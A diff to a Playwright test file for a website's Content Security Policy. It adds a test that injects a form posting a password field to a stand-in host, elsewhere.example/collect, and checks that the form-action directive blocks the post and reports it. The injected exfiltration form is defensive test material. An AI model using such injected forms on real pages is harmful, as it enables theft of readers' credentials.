@@ -3,8 +3,8 @@
 // with zero violations and zero reports; so do the editor (its chunk loads after hydration, a
 // draft saves), the membership checkout (the plans page's form → the provider's hosted page,
 // a redirect form-action must allow), the header's search popover and the search page. A
-// script injected into a served page is blocked and reported to the intake
-// (/_/clientele/reports/csp).
+// script injected into a served page, and an injected form posting to another site, are
+// blocked and reported to the intake (/_/clientele/reports/csp).
 import type { Browser, BrowserContext, Page, Request } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
 import { launchBrowser, waitForHydration, watchPage } from './support/browser.ts';
@@ -168,6 +168,29 @@ it('the header search popover and the search page work under the policy', async 
   await visit(watched, '/search?q=hab');
   await watched.page.locator('[data-testid="search-page"] .search-result').first().waitFor();
   await expectClean(watched, '/search?q=hab');
+  await watched.context.close();
+});
+
+it("blocks an injected form that would send a reader's typing to another site, and reports it", async () => {
+  const watched = await open(false);
+  await visit(watched, '/');
+  const reported = watched.page.waitForResponse((response) => new URL(response.url()).pathname === CSP_REPORT_PATH);
+  // A stand-in for injected markup: a form posting elsewhere (a page script could do this, but
+  // form-action is what stops the form markup alone, the case a script policy cannot).
+  await watched.page.evaluate(() => {
+    const form = document.createElement('form');
+    form.method = 'post';
+    form.action = 'https://elsewhere.example/collect';
+    form.innerHTML = '<input name="password" value="secret">';
+    document.body.append(form);
+    form.submit();
+  });
+  const report = await reported;
+  expect(report.status()).toBe(204);
+  const body = JSON.parse(report.request().postData() ?? '{}') as { 'csp-report'?: Record<string, unknown> };
+  expect(body['csp-report']).toMatchObject({ 'effective-directive': 'form-action', 'blocked-uri': 'https://elsewhere.example/collect' });
+  expect(new URL(watched.page.url()).origin).toBe(new URL(baseURL).origin);
+  expect(await watched.violations()).toEqual([{ directive: 'form-action', blocked: 'https://elsewhere.example/collect' }]);
   await watched.context.close();
 });
 
